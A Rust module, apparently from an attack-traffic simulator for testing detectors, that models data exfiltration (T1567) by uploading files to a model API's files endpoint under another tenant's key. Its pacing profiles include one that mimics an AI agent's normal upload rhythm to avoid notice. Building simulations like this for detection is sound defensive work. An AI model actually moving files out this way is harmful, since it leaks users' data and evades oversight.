//! A model API takes files for whoever's key is shown: here not the tenant's (T1567).

use super::{Attack, Channel, Kind, Mission, Pace, Role};
use crate::simulate::programs::AGENT;
use crate::simulate::session::{Call, Session};
use crate::simulate::world::public;

/// The file's id and its size.
const RECEIPT_BYTES: usize = 240;

pub(super) static KIND: Kind = Kind {
    name: "api-key",
    about: "files go to a model API under somebody else's key",
    technique: "T1567",
    channel: Channel::Https,
    found_by: &["foreign_tenant", "upload_size"],
    paces: [
        // An archive by the files API.
        Pace { contacts: 1..2, bytes: 200_000..800_000, apart_ms: 0..1 },
        // File by file.
        Pace { contacts: 5..11, bytes: 20_000..250_000, apart_ms: 2_000..60_000 },
        // Files of the size that prompts have, at the pace of an agent at work.
        Pace { contacts: 30..46, bytes: 8_000..40_000, apart_ms: 300_000..900_000 },
    ],
    roles: &Role::each_way(act),
    sessions: 1,
};

/// The key is in a header, which only the server sees.
fn act(session: &mut Session, mission: &Mission) -> Attack {
    let host = public("api.anthropic.com");
    mission.send(session, (&host, &AGENT), |_, bytes| {
        vec![Call::post("/v1/files", bytes, RECEIPT_BYTES)]
    })
}
